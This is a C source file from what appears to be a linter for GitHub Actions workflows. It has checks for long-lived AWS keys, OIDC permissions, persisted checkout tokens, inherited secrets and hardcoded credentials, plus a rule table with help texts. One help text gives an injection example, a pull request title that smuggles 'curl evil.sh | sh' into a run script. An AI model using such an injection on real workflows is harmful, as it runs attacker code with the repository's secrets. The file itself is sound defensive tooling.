    if (cred_source(j, st, wf, v, 0) != CRED_STORED && cred_source(j, st, wf, sv, 0) != CRED_STORED)
        return; /* set at run time (short-lived), or a literal (gha/hardcoded-credential) */
    if (sv && str_find(sv, "env.AWS_SECRET_ACCESS_KEY"))
        return; /* the env: that holds it is reported: one cause, one finding */
    char *path = gha_path(j, st, "with.aws-access-key-id");
    gha_report(ctx, wf, key, j->id, path,
               "use 'role-to-assume:' with OIDC ('permissions: id-token: write') and "
               "delete the access key",
               "configure-aws-credentials is given a long-lived access key%s: it works "
               "until someone leaks it, and never expires",
               yref_key(st->with, "role-to-assume").n ? " (to assume the role with)"
                                                      : " instead of role-to-assume");
    free(path);
}

/* Long-lived keys from secrets put into an env: map (workflow, job or step), where every
 * command (the AWS CLI, Terraform, SDKs) picks them up. */
/* A place where an env: map hands long-lived keys from secrets to every command. */
struct aws_env_use {
    struct yref at;
    const char *job, *where, *secret; /* the job id (NULL: the workflow), whose env, the value */
};

struct aws_env_uses {
    struct aws_env_use *v;
    size_t n, alloc;
};

/* Long-lived keys from secrets put into an env: map (workflow, job or step), where every
 * command (the AWS CLI, Terraform, SDKs) picks them up. */
static void aws_env_keys(struct aws_env_uses *u, const struct wf_job *j, struct yref env,
                         const char *where)
{
    struct yref id = yref_key(env, "AWS_ACCESS_KEY_ID");
    struct yref secret = yref_key(env, "AWS_SECRET_ACCESS_KEY");
    if (!secret.n || yref_key(env, "AWS_SESSION_TOKEN").n)
        return;
    const char *sv = yref_str(yref_get(env, "AWS_SECRET_ACCESS_KEY"));
    if (!sv || !wf_has_expr(sv) || (!str_find(sv, "secrets.") && !str_find(sv, "vars.")))
        return;
    /* keys of an S3-compatible store the AWS CLI is pointed at (Cloudflare R2, MinIO): no AWS
     * role to assume there */
    const char *ep = yref_str(yref_get(env, "AWS_ENDPOINT_URL"));
    if (!ep)
        ep = yref_str(yref_get(env, "AWS_ENDPOINT_URL_S3"));
    if (ep && !str_find(ep, "amazonaws.com"))
        return;
    ALLOC_GROW(u->v, u->n + 1, u->alloc);
    u->v[u->n++] = (struct aws_env_use){id.n ? id : secret, j ? j->id : NULL, where, sv};
}

/* One finding per secret: the other env: maps that hand the same one out are related
 * locations (moving to OIDC is one change). */
static void aws_env_report(struct rule_ctx *ctx, const struct workflow *wf,
                           const struct aws_env_uses *u)
{
    for (size_t i = 0; i < u->n; i++) {
        int seen = 0;
        for (size_t k = 0; k < i && !seen; k++)
            seen = !strcmp(u->v[k].secret, u->v[i].secret);
        if (seen)
            continue;
        gha_report(ctx, wf, u->v[i].at, u->v[i].job, NULL,
                   "assume a role with aws-actions/configure-aws-credentials and OIDC "
                   "('role-to-assume:', 'permissions: id-token: write'), and delete the access "
                   "key",
                   "%s env: hands every command a long-lived AWS key from a secret: it works "
                   "until someone leaks it, and never expires",
                   u->v[i].where);
        for (size_t k = i + 1; k < u->n; k++)
            if (!strcmp(u->v[k].secret, u->v[i].secret)) {
                char *path = wf_node_path(wf, u->v[k].at.via ? u->v[k].at.via : u->v[k].at.n);
                struct anchor a = {wf->file, yref_line(u->v[k].at), yref_col(u->v[k].at),
                                   0,        u->v[k].job,           path};
                rule_related(ctx, &a, "%s env: hands out the same key", u->v[k].where);
                free(path);
            }
    }
}

static void check_aws_static(struct rule_ctx *ctx, const struct subject *s)
{
    const struct workflow *wf = s->wf;
    struct aws_env_uses u = {NULL, 0, 0};
    aws_env_keys(&u, NULL, wf->env, "the workflow's");
    for (size_t i = 0; i < wf->njobs; i++) {
        const struct wf_job *j = &wf->jobs[i];
        aws_env_keys(&u, j, j->env, "the job's");
        for (size_t k = 0; k < j->nsteps; k++) {
            const struct wf_step *st = &j->steps[k];
            aws_env_keys(&u, j, st->env, "a step's");
            if (aws_creds(st))
                aws_action_keys(ctx, wf, j, st);
        }
    }
    aws_env_report(ctx, wf, &u);
    free(u.v);
}

/* Permissions in effect for job j of wf when it runs: inside a reusable workflow, its caller's. */
static int id_token_granted(const struct workflow *wf, const struct wf_job *j, int *known)
{
    *known = 1;
    const struct wf_perms *p = gha_job_perms(wf, j);
    if (p)
        return wf_perms_level(p, "id-token") == PERM_WRITE || p->form == PERMS_OTHER;
    if (!gha_only_called(wf))
        return 0; /* the repository default never includes id-token */
    int any = 0, all = 1;
    for (size_t i = 0; wf->set && i < wf->set->n; i++) {
        const struct workflow *c = wf->set->v[i];
        for (size_t k = 0; k < c->njobs; k++) {
            const struct wf_job *cj = &c->jobs[k];
            if (cj->callee != wf)
                continue;
            any = 1;
            const struct wf_perms *cp = gha_job_perms(c, cj);
            if (!cp || (wf_perms_level(cp, "id-token") != PERM_WRITE && cp->form != PERMS_OTHER))
                all = 0;
        }
    }
    *known = any;
    return all;
}

static void check_oidc(struct rule_ctx *ctx, const struct subject *s)
{
    const struct workflow *wf = s->wf;
    for (size_t i = 0; i < wf->njobs; i++) {
        const struct wf_job *j = &wf->jobs[i];
        const struct wf_step *assume = NULL;
        for (size_t k = 0; k < j->nsteps && !assume; k++) {
            const struct wf_step *st = &j->steps[k];
            if (aws_creds(st) && yref_key(st->with, "role-to-assume").n &&
                !yref_key(st->with, "aws-access-key-id").n &&
                !yref_key(st->with, "web-identity-token-file").n)
                assume = st;
        }
        int known;
        if (!assume || id_token_granted(wf, j, &known) || !known)
            continue;
        struct yref at = j->perms.form != PERMS_ABSENT    ? j->perms.key
                         : wf->perms.form != PERMS_ABSENT ? wf->perms.key
                                                          : j->key;
        gha_report(ctx, wf, at, j->id, NULL,
                   "add 'permissions: {id-token: write, contents: read}' to the job",
                   "job '%s' assumes an AWS role (role-to-assume) but its token has no "
                   "'id-token: write': the OIDC token request fails when it runs",
                   j->id);
        char *path = gha_path(j, assume, "with.role-to-assume");
        struct anchor rel = {wf->file,
                             yref_line(yref_key(assume->with, "role-to-assume")),
                             yref_col(yref_key(assume->with, "role-to-assume")),
                             0,
                             j->id,
                             path};
        rule_related(ctx, &rel, "the role is assumed here");
        free(path);
    }
    /* id-token: write for every job of a workflow that runs untrusted code */
    const struct wf_perm_entry *e = wf_perms_entry(&wf->perms, "id-token");
    if (!e || e->level != PERM_WRITE)
        return;
    static const char *const events[] = {"pull_request_target", "workflow_run", "issue_comment"};
    struct arena *a = arena_new();
    int said = 0;
    for (size_t k = 0; k < ARRAY_SIZE(events) && !said; k++) {
        if (!wf_trigger_by_event(wf, events[k]))
            continue;
        for (size_t i = 0; i < wf->njobs && !said; i++) {
            const char *what;
            if (!head_checkout(wf, &wf->jobs[i], &what, a).n)
                continue;
            gha_report(ctx, wf, e->key, NULL, NULL,
                       "grant 'id-token: write' only on the job that deploys",
                       "'id-token: write' is granted to the whole workflow, which runs untrusted "
                       "code on '%s' (job '%s'): that code can request cloud credentials",
                       events[k], wf->jobs[i].id);
            said = 1;
        }
    }
    arena_free(a);
}

/* ---- gha/persist-credentials, gha/secrets-inherit ---- */

static void check_persist(struct rule_ctx *ctx, const struct subject *s)
{
    const struct workflow *wf = s->wf;
    for (size_t i = 0; i < wf->njobs; i++) {
        const struct wf_job *j = &wf->jobs[i];
        for (size_t k = 0; k < j->nsteps; k++) {
            const struct wf_step *st = &j->steps[k];
            if (!gha_uses_is(st->uses, "actions/checkout"))
                continue;
            struct yref pc = yref_get(st->with, "persist-credentials");
            int b;
            if (pc.n && ((ynode_bool(pc.n, &b) == 0 && !b) ||
                         (yref_str(pc) && (!strcmp(pc.n->str, "false") || wf_has_expr(pc.n->str)))))
                continue;
            char *path = gha_path(j, st, "uses");
            gha_report(ctx, wf, st->uses_at, j->id, path,
                       "add 'with: {persist-credentials: false}' (steps that push can pass the "
                       "token explicitly)",
                       "actions/checkout leaves the token in .git/config for every later step "
                       "(and any artifact of the workspace)");
            free(path);
        }
    }
}

static void check_inherit(struct rule_ctx *ctx, const struct subject *s)
{
    const struct workflow *wf = s->wf;
    for (size_t i = 0; i < wf->njobs; i++) {
        const struct wf_job *j = &wf->jobs[i];
        const char *v = yref_str(j->secrets);
        if (!j->uses || !v || strcmp(v, "inherit"))
            continue;
        /* a workflow of this repository (`./…`, or owner/name of its own origin) is reviewed
         * with it, and the secrets stay in it: a pedantic finding */
        size_t sl = wf->slug ? strlen(wf->slug) : 0;
        int own = wf_uses_local(j->uses) ||
                  (sl && !strncasecmp(j->uses, wf->slug, sl) && j->uses[sl] == '/');
        if (own && rule_persona(ctx) < PERSONA_PEDANTIC)
            continue;
        gha_report(ctx, wf, j->secrets, j->id, NULL,
                   "pass only the secrets it uses: 'secrets: {DEPLOY_KEY: "
                   "${{ secrets.DEPLOY_KEY }}}'",
                   "job '%s' hands every secret of the repository to '%s' "
                   "('secrets: inherit')",
                   j->id, j->uses);
    }
}

/* ---- gha/hardcoded-credential ---- */

/* Is s a literal of a service container's env (the throwaway password of a test database, which
 * the job's env repeats to reach it)? */
static int service_literal(const struct wf_job *j, const char *s)
{
    for (size_t k = 0; j && yref_is_map(j->services) && k < j->services.n->npairs; k++) {
        struct yref env = yref_get(yref_pair_value(j->services, k), "env");
        for (size_t i = 0; yref_is_map(env) && i < env.n->npairs; i++) {
            const char *v = yref_str(yref_pair_value(env, i));
            if (v && !strcmp(v, s))
                return 1;
        }
    }
    return 0;
}

/* Formats real credentials have: AWS key ids, GitHub, GitLab, Slack, Stripe, Google, npm and
 * PyPI tokens, private keys. */
static int credential_format(const char *v)
{
    static const char *const prefixes[] = {"AKIA",  "ASIA",  "ghp_",        "gho_",      "ghu_",
                                           "ghs_",  "ghr_",  "github_pat_", "glpat-",    "xoxb-",
                                           "xoxp-", "xoxa-", "xapp-",       "sk_live_",  "rk_live_",
                                           "AIza",  "npm_",  "pypi-AgE",    "-----BEGIN"};
    for (size_t i = 0; i < ARRAY_SIZE(prefixes); i++)
        if (starts_with(v, prefixes[i]) && strlen(v) >= strlen(prefixes[i]) + 12)
            return 1;
    return str_find(v, "PRIVATE KEY-----") != NULL;
}

/* Words of values that stand in for a credential: LocalStack's `test`, `dummy`, `changeme`, a key
 * for a local service. */
static int placeholder(const char *v)
{
    static const char *const words[] = {
        "test",        "dummy",  "change",   "example", "sample", "fake",     "mock",     "local",
        "placeholder", "secret", "password", "passwd",  "token",  "default",  "demo",     "dev",
        "xxx",         "foo",    "bar",      "your",    "insert", "replace",  "redacted", "none",
        "null",        "admin",  "root",     "guest",   "minio",  "postgres", "mysql",    "redis"};
    char low[256];
    size_t n = 0;
    for (; v[n] && n + 1 < sizeof(low); n++)
        low[n] = (char)tolower((unsigned char)v[n]);
    low[n] = '\0';
    for (size_t i = 0; i < ARRAY_SIZE(words); i++)
        if (str_find(low, words[i]))
            return 1;
    return 0;
}

/* Does a literal look like a credential: a known format, or a long string that looks random
 * (three kinds of characters, or letters and digits with high entropy)? Booleans, numbers,
 * words and placeholders do not. */
static int looks_like_credential(const char *v)
{
    size_t n = strlen(v);
    if (n < 8 || str_find(v, "EXAMPLE"))
        return 0;
    if (credential_format(v))
        return 1;
    if (placeholder(v))
        return 0;
    int lower = 0, upper = 0, digit = 0, other = 0, hex = 1;
    size_t spaces = 0;
    unsigned counts[256] = {0};
    for (size_t i = 0; i < n; i++) {
        unsigned char c = (unsigned char)v[i];
        lower |= islower(c) != 0;
        upper |= isupper(c) != 0;
        digit |= isdigit(c) != 0;
        other |= !isalnum(c) && c != '-' && c != '_' && c != '.' && c != ' ';
        hex &= isxdigit(c) != 0;
        spaces += c == ' ';
        counts[c]++;
    }
    if (spaces) /* a passphrase of several words, not a sentence-like description */
        return spaces >= 2 && n >= 16;
    if (hex && n >= 16 && digit && (lower || upper))
        return 1;
    if (n >= 16 && lower + upper + digit + other >= 3)
        return 1;
    double bits = 0;
    for (size_t c = 0; c < 256; c++)
        if (counts[c]) {
            double p = (double)counts[c] / (double)n;
            bits -= p * log2(p);
        }
    return n >= 20 && digit && (lower || upper) && bits >= 3.5;
}

/* Does the job talk to a service on the runner (services:, or an endpoint on localhost): its
 * credentials are those of a throwaway test service? */
static int local_service(const struct workflow *wf, const struct wf_job *j, struct yref map)
{
    static const char *const hosts[] = {"localhost", "127.0.0.1", "0.0.0.0", "localstack", "::1"};
    if (j && yref_is_map(j->services) && j->services.n->npairs)
        return 1;
    struct yref maps[3] = {map, j ? j->env : (struct yref){NULL, NULL}, wf->env};
    for (size_t m = 0; m < 3; m++)
        for (size_t i = 0; yref_is_map(maps[m]) && i < maps[m].n->npairs; i++) {
            const char *v = yref_str(yref_pair_value(maps[m], i));
            for (size_t h = 0; v && h < ARRAY_SIZE(hosts); h++)
                if (str_find(v, hosts[h]))
                    return 1;
        }
    return 0;
}

/* registry: a container's or service's `credentials:` (a registry login, never a local
 * service's) */
static void literal_creds(struct rule_ctx *ctx, const struct workflow *wf, struct yref map,
                          const char *where, const struct wf_job *j, int registry)
{
    const char *loc = j ? j->id : NULL;
    int local = -1; /* computed when first needed */
    for (size_t i = 0; yref_is_map(map) && i < map.n->npairs; i++) {
        struct yref k = yref_pair_key(map, i), v = yref_pair_value(map, i);
        const char *ks = yref_str(k), *vs = yref_str(v);
        int b;
        if (!ks || !vs || !*vs || ynode_is_null(v.n) || wf_has_expr(vs) || vs[0] == '$' ||
            ynode_bool(v.n, &b) == 0 || !wf_is_credential_key(ks) || service_literal(j, vs))
            continue;
        if (!registry && !looks_like_credential(vs))
            continue;
        if (!registry && !credential_format(vs)) {
            if (local < 0)
                local = local_service(wf, j, map);
            if (local)
                continue;
        }
        gha_report(ctx, wf, v, loc, NULL,
                   "store it as a repository or environment secret and write "
                   "'${{ secrets.NAME }}'",
                   "'%s' in %s is a literal credential: anyone who can read the repository "
                   "can read it",
                   ks, where);
    }
}

static void check_hardcoded(struct rule_ctx *ctx, const struct subject *s)
{
    const struct workflow *wf = s->wf;
    literal_creds(ctx, wf, wf->env, "the workflow's env:", NULL, 0);
    for (size_t i = 0; i < wf->njobs; i++) {
        const struct wf_job *j = &wf->jobs[i];
        literal_creds(ctx, wf, j->env, "the job's env:", j, 0);
        literal_creds(ctx, wf, j->with, "the reusable workflow's with:", j, 0);
        literal_creds(ctx, wf, yref_get(j->container, "credentials"),
                      "the container's credentials:", j, 1);
        for (size_t k = 0; yref_is_map(j->services) && k < j->services.n->npairs; k++)
            literal_creds(ctx, wf, yref_get(yref_pair_value(j->services, k), "credentials"),
                          "a service's credentials:", j, 1);
        for (size_t k = 0; k < j->nsteps; k++) {
            literal_creds(ctx, wf, j->steps[k].env, "a step's env:", j, 0);
            literal_creds(ctx, wf, j->steps[k].with, "a step's with:", j, 0);
        }
    }
}

/* ---- the table ---- */

static const struct rule_option injection_options[] = {
    {"untrusted_contexts", OPT_STRLIST,
     "github.head_ref,github.event.issue.title,github.event.issue.body,"
     "github.event.pull_request.title,github.event.pull_request.body,"
     "github.event.pull_request.head.ref,github.event.pull_request.head.label,"
     "github.event.pull_request.head.repo.default_branch,"
     "github.event.pull_request.head.repo.description,github.event.pull_request.head.repo.homepage,"
     "github.event.comment.body,github.event.review.body,github.event.review_comment.body,"
     "github.event.discussion.title,github.event.discussion.body,github.event.pages.*.page_name,"
     "github.event.commits.*.message,github.event.commits.*.author.name,"
     "github.event.commits.*.author.email,github.event.commits.*.committer.name,"
     "github.event.commits.*.committer.email,github.event.head_commit.message,"
     "github.event.head_commit.author.name,github.event.head_commit.author.email,"
     "github.event.head_commit.committer.name,github.event.head_commit.committer.email,"
     "github.event.workflow_run.head_branch,github.event.workflow_run.display_title,"
     "github.event.workflow_run.head_commit.message,"
     "github.event.workflow_run.head_commit.author.name,"
     "github.event.workflow_run.head_commit.author.email,"
     "github.event.workflow_run.head_repository.description,"
     "github.event.workflow_run.pull_requests.*.head.ref,"
     "github.event.merge_group.head_commit.message,"
     "github.event.merge_group.head_commit.author.name,"
     "github.event.merge_group.head_commit.author.email,github.event.changes.**",
     "context paths an attacker controls ('*' is one segment, a final '**' any rest)"},
    {"dispatch_inputs", OPT_BOOL, "true",
     "treat free-text workflow_dispatch inputs as untrusted (anyone with write access types them)"},
    {0},
};

static const struct rule_option pin_options[] = {
    {"trusted_actions", OPT_STRLIST, "actions/*,github/*",
     "actions (owner/repo globs) that may use a tag; empty: pin everything (the top-level "
     "`trusted_actions` of .infralint.yaml sets this too)"},
    {"trust_own_owner", OPT_BOOL, "true",
     "actions of the repository's own owner (read from the origin remote in .git/config) may use "
     "a tag or branch: they are first-party code"},
    {"tag_actions", OPT_STRLIST,
     "slsa-framework/slsa-github-generator,slsa-framework/slsa-github-generator/*",
     "actions and reusable workflows (globs) that must be referenced by a release tag, not a "
     "SHA (SLSA's generator verifies the tag it runs from); add others here"},
    {"report_tags", OPT_BOOL, "false",
     "report release-tag pins (`@v4`, `:1.2` images) at the regular persona too, as zizmor's "
     "default policy does (otherwise from the pedantic persona on)"},
    {0},
};

static const struct rule_option perm_options[] = {
    {"report_default_token", OPT_BOOL, "false",
     "report jobs on the repository's default token at the regular persona also in workflows "
     "that only trusted events start (otherwise from the pedantic persona on)"},
    {0},
};

const struct rule gha_security_rules[] = {
    {
        .id = "gha/template-injection",
        .title = "Attacker-controlled values are never pasted into scripts",
        .security_severity = "9.0",
        .severity = SEV_ERROR,
        .severity_note = "error, warning for workflow_dispatch inputs in a job of an environment",
        .kinds = KIND_WORKFLOW | KIND_ACTION,
        .scope = SCOPE_ALL,
        .persona = PERSONA_REGULAR,
        .origin = "zizmor template-injection; actionlint expression",
        .options = injection_options,
        .check = check_injection,
        .help = "`${{ … }}` is replaced by its value before the shell (or `actions/github-script`) "
                "sees the script, so a pull request titled `\"; curl evil.sh | sh; #` runs "
                "code with the workflow's token and secrets. Reported, at the exact line and "
                "column of the `${{`, for values an attacker controls (`untrusted_contexts`: "
                "issue and pull request titles and bodies, comments, head branch names, commit "
                "messages and authors, free-text `workflow_dispatch` inputs) — also when they "
                "pass through `env.X` — in `run:` and in github-script's `script:`. Never for "
                "SHAs, numbers, booleans, step outcomes, comparisons, or `a && 'x' || 'y'` of "
                "literals. Free-text `workflow_dispatch` inputs, which only people with write "
                "access can type, are warnings in a job of an `environment:` (the input runs "
                "code with the environment's secrets on a branch its protection rules allow, "
                "which a pushed branch cannot) and elsewhere only with `--persona pedantic` "
                "(whoever can dispatch can push a workflow that runs that code anyway); the "
                "`dispatch_inputs` option turns them off. In a workflow only `pull_request` "
                "starts, an attacker-controlled value is a warning, and so is what a pull request "
                "carries (`github.head_ref`, `github.event.pull_request.*`) in a workflow without "
                "`pull_request_target`: the pull request's author could change the workflow "
                "itself, and a fork's run gets a read-only token and no secrets (it still breaks "
                "on a branch named `a\"b`). "
                "Setting the value in `env:` and using `\"$NAME\"` is safe. In a composite "
                "action the same holds for its steps; its own `inputs.*` are whatever the "
                "calling workflow passes, and are reported only with `--persona auditor`. Every "
                "operand "
                "that can become the value counts (`inputs.branch || env.HEAD` is as bad as "
                "`env.HEAD`), and the value is followed through `env:` (workflow, job, step), "
                "step outputs (the lines that write them to `$GITHUB_OUTPUT`) and job outputs "
                "(`needs.<job>.outputs.<name>`). The same value expanded several times in one "
                "script is one finding, its other places related locations.\n\n"
                "Fix: `env: {TITLE: ${{ github.event.issue.title }}}` on the step and "
                "`\"$TITLE\"` in the script.",
    },
    {
        .id = "gha/dangerous-trigger",
        .title = "Privileged triggers do not run untrusted code",
        .security_severity = "9.0",
        .severity = SEV_ERROR,
        .kinds = KIND_WORKFLOW,
        .scope = SCOPE_ALL,
        .persona = PERSONA_REGULAR,
        .origin = "zizmor dangerous-triggers",
        .check = check_dangerous,
        .help = "`pull_request_target` and `workflow_run` run with the base repository's "
                "secrets and a write token, even for a pull request from a fork. Checking out "
                "the pull request's head there (`ref: ${{ github.event.pull_request.head.sha }}`, "
                "`github.head_ref`, `refs/pull/…`, `gh pr checkout`, the `workflow_run` head) "
                "and then building or testing it runs the attacker's code with those secrets. "
                "Reported at the checkout, for jobs the trigger can reach.\n\n"
                "Fix: use `pull_request` for anything that runs the pull request's code; keep "
                "`pull_request_target` for labelling and commenting, without a checkout of the "
                "head.",
    },
    {
        .id = "gha/unpinned-action",
        .title = "Third-party actions are pinned to a commit",
        .security_severity = "6.5",
        .severity = SEV_WARNING,
        .kinds = KIND_WORKFLOW | KIND_ACTION,
        .scope = SCOPE_ALL,
        .persona = PERSONA_REGULAR,
        .origin = "zizmor unpinned-uses",
        .options = pin_options,
        .check = check_unpinned,
        .help = "A tag or branch (`@v4`, `@main`) can be moved to other code by whoever controls "
                "the action's repository — the tj-actions/changed-files compromise did that to "
                "thousands of workflows. `uses:` must name a full 40-hex commit SHA, except for "
                "owners in `trusted_actions` (by default `actions/*` and `github/*`, as "
                "zizmor's default policy; an empty list pins everything), and actions of the "
                "repository's own owner — first-party code, when the origin remote in "
                "`.git/config` names it (`trust_own_owner`). Actions that must run "
                "from a release tag (`tag_actions`: SLSA's `slsa-github-generator`, which "
                "verifies its own ref, is built in) are the other way round: a tag is right, a "
                "SHA is reported. Local actions "
                "(`./…`) are exempt; `docker://` images must be pinned by `@sha256:` digest. An "
                "action used several times at the same ref in one file is one finding, its "
                "other places related locations. At the default persona only what moves with "
                "every push is reported: a branch (`@main`, `@stable`), a short SHA, an image "
                "without a version tag. A release tag (`@v4`, `@v2.1.0`, `:3.20`) moves only "
                "when the action's repository moves it: that is supply-chain hygiene, reported "
                "from `--persona pedantic` on (as GitHub's default code scanning suite leaves "
                "its unpinned-tag query out), or at every persona with `report_tags: true` (the "
                "policy of zizmor's default persona). Each finding says, as a related location, "
                "what the job hands the action: an environment's secrets, write scopes or "
                "`id-token: write`, a secret it reads, the secrets of a `pull_request_target` or "
                "`workflow_run` run — the tags to pin first.\n\n"
                "Fix: `uses: owner/action@<40-hex SHA> # v1.2.3` (Dependabot keeps such pins "
                "current).",
    },
    {
        .id = "gha/excessive-permissions",
        .title = "Jobs get only the token permissions they need",
        .security_severity = "5.5",
        .severity = SEV_WARNING,
        .kinds = KIND_WORKFLOW,
        .scope = SCOPE_ALL,
        .persona = PERSONA_REGULAR,
        .origin = "zizmor excessive-permissions",
        .options = perm_options,
        .check = check_permissions,
        .help = "Every step of a job can use its GITHUB_TOKEN. A job with no `permissions:` "
                "(neither on the job nor at the top of the workflow) gets the repository's "
                "default, which on older repositories is write access to everything: reported "
                "once per workflow, at the first such job's key, naming them all (one "
                "`permissions:` at the top fixes them). What the default can do is a setting "
                "of the repository the file does not show (read-only for repositories created "
                "since February 2023): at the default persona this is reported for workflows "
                "that events anyone can cause start with the repository's own token "
                "(`pull_request_target`, `workflow_run`, `issues`, `issue_comment`, "
                "`discussion`, `discussion_comment`), and otherwise from `--persona pedantic` on, "
                "or at every persona with `report_default_token: true` (as zizmor and CodeQL "
                "report it); a job whose steps cannot use the token only with `--persona "
                "pedantic`: a step reaches it when it names it (`github.token`, "
                "`secrets.GITHUB_TOKEN`), through an action that is not a known set-up action nor "
                "given a token of its own (`token: ${{ secrets.BOT_TOKEN }}`), or, for a script, "
                "through the credentials an earlier `actions/checkout` left in `.git/config` (a "
                "script alone has no token: `gh` needs `GH_TOKEN`). "
                "`write-all`, and a `write` scope given to "
                "jobs whose steps are "
                "all known not to write (checkout, setup and cache actions, scripts that do not "
                "use the token, `gh`, `git push` or a registry), are reported at the value (the "
                "write scopes one `permissions:` grants to the same such jobs are one finding, "
                "at the first, the others as related locations). "
                "`id-token: write` on a job that assumes a cloud role is what it needs. Jobs of "
                "a reusable workflow get their caller's permissions; a job calling a reusable "
                "workflow of this repository counts the permissions set there.\n\n"
                "Fix: `permissions: {contents: read}` at the top, and the write scopes on the "
                "jobs that need them.",
    },
    {
        .id = "gha/aws-static-credentials",
        .title = "AWS access uses OIDC, not long-lived keys",
        .security_severity = "7.5",
        .severity = SEV_ERROR,
        .kinds = KIND_WORKFLOW | KIND_ACTION,
        .scope = SCOPE_ALL,
        .persona = PERSONA_REGULAR,
        .origin = "security",
        .check = check_aws_static,
        .help = "An access key in a repository secret works until it leaks, and is rarely "
                "rotated. `aws-actions/configure-aws-credentials` can instead assume a role "
                "through GitHub's OIDC token: short-lived credentials, restricted by the role's "
                "trust policy to this repository and branch or environment. Reported at "
                "`aws-access-key-id` when configure-aws-credentials is given keys from secrets "
                "(or variables), and at `AWS_ACCESS_KEY_ID` when an `env:` (workflow, job or "
                "step) hands `AWS_SECRET_ACCESS_KEY` from a secret to every command. Keys with "
                "a session token, or set at run time (`${{ env.AWS_… }}` exported by an earlier "
                "step, a step's outputs: role chaining after an OIDC step), are short-lived and "
                "not reported; literal keys are gha/hardcoded-credential's. Keys in an `env:` "
                "whose `AWS_ENDPOINT_URL` points at an S3-compatible store outside AWS "
                "(Cloudflare R2, MinIO) are not AWS keys: no role could replace them.\n\n"
                "Fix: create an IAM role trusting `token.actions.githubusercontent.com`, give "
                "the job `permissions: {id-token: write}`, and pass `role-to-assume:` instead of "
                "the keys.",
    },
    {
        .id = "gha/oidc-permission",
        .title = "Jobs that assume a role can request an OIDC token, and only they",
        .security_severity = "6.5",
        .severity = SEV_ERROR,
        .kinds = KIND_WORKFLOW,
        .scope = SCOPE_ALL,
        .persona = PERSONA_REGULAR,
        .origin = "security",
        .check = check_oidc,
        .help = "`role-to-assume` without static keys needs the OIDC token, which GitHub issues "
                "only with `id-token: write` in effect (job or workflow level, or the calling "
                "job's for a reusable workflow): without it the job fails when it runs. "
                "Conversely, `id-token: write` granted to the whole workflow also reaches jobs "
                "that run untrusted code (a checkout of the pull request head on "
                "`pull_request_target`, `workflow_run` or `issue_comment`), which can then "
                "request cloud credentials.\n\n"
                "Fix: `permissions: {id-token: write, contents: read}` on the deploy job only.",
    },
    {
        .id = "gha/persist-credentials",
        .title = "Checkouts do not leave the token on disk",
        .security_severity = "4.0",
        .severity = SEV_NOTE,
        .kinds = KIND_WORKFLOW | KIND_ACTION,
        .scope = SCOPE_ALL,
        .persona = PERSONA_PEDANTIC,
        .origin = "zizmor artipacked",
        .check = check_persist,
        .help = "`actions/checkout` writes the token into `.git/config` unless told otherwise; "
                "every later step (third-party actions included) can read it, and an upload of "
                "the workspace as an artifact publishes it.\n\n"
                "Fix: `with: {persist-credentials: false}`; a step that pushes can pass the "
                "token explicitly.",
    },
    {
        .id = "gha/secrets-inherit",
        .title = "Reusable workflows get only the secrets they use",
        .security_severity = "5.0",
        .severity = SEV_WARNING,
        .kinds = KIND_WORKFLOW,
        .scope = SCOPE_ALL,
        .persona = PERSONA_REGULAR,
        .origin = "zizmor secrets-inherit",
        .check = check_inherit,
        .help = "`secrets: inherit` hands every repository, organisation and environment secret "
                "to the called workflow — including ones it never needed, and to every future "
                "version of it. Reported for workflows of other repositories; for one of this "
                "repository (`uses: ./.github/workflows/…`), reviewed together with the caller, "
                "only with `--persona pedantic`.\n\n"
                "Fix: pass the secrets it uses by name: `secrets: {TOKEN: ${{ secrets.TOKEN }}}`.",
    },
    {
        .id = "gha/hardcoded-credential",
        .title = "No credentials are written into the workflow",
        .security_severity = "9.0",
        .severity = SEV_ERROR,
        .kinds = KIND_WORKFLOW | KIND_ACTION,
        .scope = SCOPE_ALL,
        .persona = PERSONA_REGULAR,
        .origin = "zizmor hardcoded-container-credentials",
        .check = check_hardcoded,
        .help = "A literal value that looks like a credential, for a key named like a credential "
                "(`password`, `passwd`, `token`, `secret`, `api_key`/`apikey`, `access_key`, "
                "`private_key`, `client_secret`, as a whole name or its last part: "
                "`DB_PASSWORD`, `npmToken`; not `key` or `cache-key`) in the workflow's, a job's "
                "or a step's `env:`, a step's or reusable call's `with:`, or a container's or "
                "service's `credentials:`. Looks like a credential: a known token format (AWS "
                "key ids, GitHub, GitLab, Slack, Stripe, npm and PyPI tokens, private keys), or "
                "a long value that looks random (16 or more characters of three kinds, hex, or "
                "high entropy), or a passphrase of several words. Not reported: expressions, "
                "booleans (`\"true\"` too), numbers, short values, placeholders (`test` as "
                "LocalStack wants it, `dummy`, `changeme`, `example`, anything with `local`, "
                "`dev`, `secret`…), the password of a service container the job repeats, and "
                "values in a job that talks to a service on the runner (`services:`, an endpoint "
                "on localhost): those are throwaway test credentials. A registry password in "
                "`credentials:` (an image pull login, never a local service's) is always reported. "
                "The message never "
                "repeats the value.\n\n"
                "Fix: store the value as a secret and write `${{ secrets.NAME }}`; rotate the "
                "exposed one.",
    },
    {0},
};
